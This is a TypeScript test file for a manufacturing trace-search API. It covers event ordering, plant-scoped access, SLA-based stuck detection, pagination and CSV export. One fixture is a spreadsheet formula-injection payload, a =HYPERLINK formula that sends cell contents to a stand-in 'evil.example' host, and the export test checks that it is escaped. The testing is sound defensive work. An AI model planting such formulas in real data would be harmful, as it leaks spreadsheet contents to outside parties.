import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeCtx } from '@/server/services/testing/ctx'
import { chInsert } from '@/server/clickhouse/exec'
import type { Runtime } from '@/server/runtime'
import { getHopPayload } from '@/server/services/traces/trace'
import { createApiToken } from '@/server/services/users/users'
import { startTestRuntime } from '@/server/testing/runtime'
import { makePrincipal } from '@/server/services/testing/principal'
import { GET as getOne } from './[correlationId]/route'
import { GET as exportCsv } from './export/route'
import { GET as search } from './route'

/**
 * Trace search and trace reads on real chDB + PGlite, through the REST handlers (the same services
 * back the tRPC router): order, duplicates, partitions, stuck detection against the flow SLA, plant
 * scope, pagination and the CSV export.
 */

const MIN = 60_000
const NOW = Date.now()
let runtime: Runtime
let stop: () => Promise<void>
let viewerToken: string
let admin: string

interface Hop {
  type: string
  hop: string
  at: number
  status?: string
  attempt?: number
  category?: string
  doc?: string
}

let seq = 0
function rows(t: { cid: string; plant: string; flow?: string; origin: number; wo?: string; lot?: string; material?: string; hops: Hop[] }) {
  return t.hops.map((h) => ({
    event_id: `${t.cid}-e${++seq}`,
    event_type: h.type,
    occurred_at: new Date(t.origin + h.at * MIN).toISOString(),
    origin_time: new Date(t.origin).toISOString(),
    correlation_id: t.cid,
    flow: t.flow ?? 'production_confirmation',
    hop: h.hop,
    status: h.status ?? 'ok',
    plant: t.plant,
    line: 'L01',
    work_order: t.wo ?? '',
    material: t.material ?? 'FG10001',
    lot: t.lot ?? '',
    erp_document: h.doc ?? '',
    attempt: h.attempt ?? 0,
    error_category: h.category ?? '',
  }))
}

const HAPPY: Hop[] = [
  { type: 'shopfloor.production_counted', hop: 'machine', at: 0 },
  { type: 'production.operation_confirmed', hop: 'mes', at: 0.2 },
  { type: 'integration.message_received', hop: 'hub', at: 0.3 },
  { type: 'erp.posting_requested', hop: 'erp', at: 0.5, attempt: 1 },
  { type: 'erp.posting_succeeded', hop: 'erp', at: 1, attempt: 1, doc: '4900001234' },
]

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'

const happy = rows({ cid: 'tr-happy', plant: '1000', origin: NOW - 60 * MIN, wo: '155000072353', lot: '0000074270', hops: HAPPY })

beforeAll(async () => {
  ;({ runtime, stop } = await startTestRuntime())
  admin = runtime.config.adminApiToken ?? ''
  const viewer = await runtime.db.prisma.user.findUniqueOrThrow({ where: { email: 'viewer@linetrace.local' } })
  ;({ token: viewerToken } = await createApiToken({ db: runtime.db.prisma, principal: { userId: null, label: 'test' } }, { userId: viewer.id, name: 'traces-test' }))
  const ch = runtime.clickhouse
  // Out of order: the ERP half arrives first, the shop-floor half later, then a re-sent copy.
  await chInsert(ch, { table: 'hop_events', rows: happy.slice(3) })
  await chInsert(ch, { table: 'hop_events', rows: happy.slice(0, 3) })
  await chInsert(ch, { table: 'hop_events', rows: [{ ...happy[4]!, src_offset: 99 }] })
  await chInsert(ch, { table: 'hop_payloads', rows: [{ correlation_id: 'tr-happy', event_id: happy[4]!.event_id, origin_time: happy[4]!.origin_time, payload: '{"doc":"4900001234","note":"<script>x</script>"}' }] })

  // Spans a weekly partition boundary in time (Sunday 23:50 → Monday 00:20, UTC).
  const monday = new Date(NOW)
  monday.setUTCHours(0, 0, 0, 0)
  monday.setUTCDate(monday.getUTCDate() - ((monday.getUTCDay() + 6) % 7))
  await chInsert(ch, { table: 'hop_events', rows: rows({ cid: 'tr-week', plant: '1000', origin: monday.getTime() - 10 * MIN, wo: '155000000777', hops: [HAPPY[0]!, { ...HAPPY[3]!, at: 25 }, { ...HAPPY[4]!, at: 30, doc: '4900000777' }] }) })

  // Stuck detection: plant 1100 allows 30 min for confirmations, 1000 the default 5 min.
  await runtime.db.prisma.slaTarget.deleteMany({ where: { plantCode: '1100', kpi: 'e2e_latency_p95' } })
  await runtime.db.prisma.slaTarget.create({ data: { plantCode: '1100', flow: 'production_confirmation', kpi: 'e2e_latency_p95', target: 1800, unit: 's' } })
  await chInsert(ch, { table: 'hop_events', rows: [
    ...rows({ cid: 'tr-stuck', plant: '1000', origin: NOW - 20 * MIN, wo: '155000000001', hops: [HAPPY[0]!] }),
    ...rows({ cid: 'tr-fresh', plant: '1000', origin: NOW - 2 * MIN, wo: '155000000002', hops: [HAPPY[0]!] }),
    ...rows({ cid: 'tr-slow-ok', plant: '1100', origin: NOW - 20 * MIN, wo: '155000000003', hops: [HAPPY[0]!] }),
    ...rows({ cid: 'tr-other-plant', plant: '2000', origin: NOW - 30 * MIN, wo: '155000072353', hops: HAPPY }),
    // A material as a telemetry producer (or an edited replay) may send it: a spreadsheet formula.
    ...rows({ cid: 'tr-formula', plant: '3000', origin: NOW - 40 * MIN, wo: '@155000000009', material: FORMULA, hops: HAPPY }),
  ] })
})
afterAll(() => stop())

const req = (path: string, token = admin) => new Request(`http://localhost${path}`, { headers: { authorization: `Bearer ${token}` } })
async function trace(cid: string, token = admin, t?: string) {
  const res = await getOne(req(`/api/v1/traces/${cid}${t ? `?t=${encodeURIComponent(t)}` : ''}`, token), { params: Promise.resolve({ correlationId: cid }) })
  return { status: res.status, body: (await res.json()) as { hops: { event_type: string; event_id: string; hop: string; erp_document: string }[]; summary: { state: string } | null; error?: { message: string } } }
}
async function find(query: string, token = admin) {
  const res = await search(req(`/api/v1/traces?${query}`, token))
  return { status: res.status, body: (await res.json()) as { items: { correlation_id: string; status: string; origin_time: string; work_order: string }[]; next_cursor: string | null; error?: { message: string } } }
}

describe('GET /api/v1/traces/{correlationId}', () => {
  it('returns the hops from machine event to ERP posting in occurred_at order, a re-sent hop once', async () => {
    const { status, body } = await trace('tr-happy')
    expect(status).toBe(200)
    expect(body.hops.map((h) => h.event_type)).toEqual(HAPPY.map((h) => h.type))
    expect(body.hops.at(-1)).toMatchObject({ hop: 'erp', erp_document: '4900001234' })
    expect(body.summary?.state).toBe('posted')
  })

  it('reads a deep link with the origin time (one partition) the same way', async () => {
    const { body } = await trace('tr-happy', admin, happy[0]!.origin_time)
    expect(body.hops).toHaveLength(HAPPY.length)
  })

  it('is complete for a transaction whose hops span two weekly partitions', async () => {
    const { body } = await trace('tr-week')
    expect(body.hops.map((h) => h.hop)).toEqual(['machine', 'erp', 'erp'])
    expect(body.summary?.state).toBe('posted')
  })

  it('answers 404 for an unknown transaction and 403 for another plant’s', async () => {
    expect((await trace('tr-nope')).status).toBe(404)
    const other = await trace('tr-other-plant', viewerToken)
    expect(other.status).toBe(403)
    expect(other.body.error?.message).toContain('not in your plants')
    // The owning plant is not named: a user outside it learns nothing about it.
    expect(other.body.error?.message).not.toMatch(/2000/)
  })

  it('shows a payload as formatted text, checking the plant', async () => {
    const q = { correlationId: 'tr-happy', eventId: happy[4]!.event_id, t: happy[0]!.origin_time }
    const payload = await getHopPayload(makeCtx({ db: runtime.db.prisma, ch: runtime.clickhouse }, makePrincipal('viewer', ['1000'])), q)
    expect(payload.text).toBe(JSON.stringify({ doc: '4900001234', note: '<script>x</script>' }, null, 2))
    await expect(getHopPayload(makeCtx({ db: runtime.db.prisma, ch: runtime.clickhouse }, makePrincipal('viewer', ['2000'])), q)).rejects.toThrow(
      'Transaction tr-happy is not in your plants. Ask an admin for access to the plant it belongs to.',
    )
  })
})

describe('GET /api/v1/traces', () => {
  it('finds a transaction by work order, lot and ERP document, typed or detected', async () => {
    for (const key of ['work_order:155000072353', '155000072353', 'wo:155000072353', 'lot:0000074270', '0000074270', '4900001234', 'tr-happy']) {
      const { status, body } = await find(`key=${encodeURIComponent(key)}&plant=1000`)
      expect(status, key).toBe(200)
      expect(body.items.map((i) => i.correlation_id), key).toEqual(['tr-happy'])
    }
  })

  it('keeps a viewer to its plants: other plants’ matches are not listed, naming one is 403', async () => {
    const { body } = await find('key=155000072353', viewerToken)
    expect(body.items.map((i) => i.correlation_id)).toEqual(['tr-happy'])
    const { body: all } = await find('key=155000072353')
    expect(all.items.map((i) => i.correlation_id).sort()).toEqual(['tr-happy', 'tr-other-plant'])
    const outside = await find('plant=2000', viewerToken)
    expect(outside.status).toBe(403)
  })

  it('calls a transaction stuck only past its flow SLA, and the status filter finds it', async () => {
    const { body } = await find('key=tr-stuck')
    expect(body.items[0]?.status).toBe('stuck')
    expect((await find('key=tr-fresh')).body.items[0]?.status).toBe('in_progress')
    expect((await find('key=tr-slow-ok')).body.items[0]?.status).toBe('in_progress')
    const stuck = await find('status=stuck&plant=1000')
    expect(stuck.body.items.map((i) => i.correlation_id)).toContain('tr-stuck')
    expect(stuck.body.items.map((i) => i.correlation_id)).not.toContain('tr-fresh')
    expect((await find('status=stuck&plant=1100')).body.items).toEqual([])
  })

  it('gives an open transaction its age since the source event, a posted one its latency', async () => {
    type Timed = { e2e_latency_ms: number | null; age_ms: number | null; sla_ms: number }
    const item = async (cid: string) => (await find(`key=${cid}`)).body.items[0] as unknown as Timed
    // Its only hop is its source event: the time to the last hop (0) is not how long it has waited.
    const stuck = await item('tr-stuck')
    expect(stuck.e2e_latency_ms).toBeNull()
    expect(stuck.age_ms).toBeGreaterThanOrEqual(20 * MIN)
    expect(stuck.age_ms).toBeLessThanOrEqual(Date.now() - (NOW - 20 * MIN))
    expect(stuck.age_ms! > stuck.sla_ms).toBe(true)
    expect(await item('tr-happy')).toMatchObject({ e2e_latency_ms: MIN, age_ms: null })
    // The trace view's header reads the same numbers.
    const { body } = await trace('tr-stuck')
    expect((body.summary as unknown as Timed).age_ms).toBeGreaterThanOrEqual(20 * MIN)
  })

  it('pages with a cursor, newest first, without overlap', async () => {
    const first = await find('plant=1000&limit=2')
    expect(first.body.items).toHaveLength(2)
    expect(first.body.next_cursor).toBeTruthy()
    const second = await find(`plant=1000&limit=2&cursor=${first.body.next_cursor}`)
    const ids = [...first.body.items, ...second.body.items].map((i) => i.correlation_id)
    expect(new Set(ids).size).toBe(ids.length)
    const times = [...first.body.items, ...second.body.items].map((i) => i.origin_time)
    expect([...times].sort().reverse()).toEqual(times)
    expect((await find('cursor=garbage')).status).toBe(400)
  })

  it('refuses bad parameters with 400', async () => {
    expect((await find('status=lost')).status).toBe(400)
    expect((await find('from=yesterday&to=today')).status).toBe(400)
  })

  it('exports the result as CSV with a visible row limit', async () => {
    const res = await exportCsv(req('/api/v1/traces/export?plant=1000'))
    expect(res.status).toBe(200)
    expect(res.headers.get('x-row-limit')).toBe('10000')
    const lines = (await res.text()).trim().split('\n')
    expect(lines[0]).toMatch(/^correlation_id,origin_time,plant/)
    expect(lines.some((l) => l.startsWith('tr-happy,'))).toBe(true)
  })

  it('exports formula-like cells as text and times as ISO 8601', async () => {
    const text = await (await exportCsv(req('/api/v1/traces/export?plant=3000'))).text()
    const [header, row, ...rest] = text.split('\r\n')
    expect(header).toBe('correlation_id,origin_time,plant,line,flow,work_order,material,state,e2e_latency_ms,sla_ms,attempts,erp_documents,age_ms')
    expect(rest).toEqual([''])
    const origin = new Date(NOW - 40 * MIN).toISOString()
    expect(row).toBe(`tr-formula,${origin},3000,L01,production_confirmation,'@155000000009,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",posted,${MIN},300000,1,4900001234,`)
  })
})
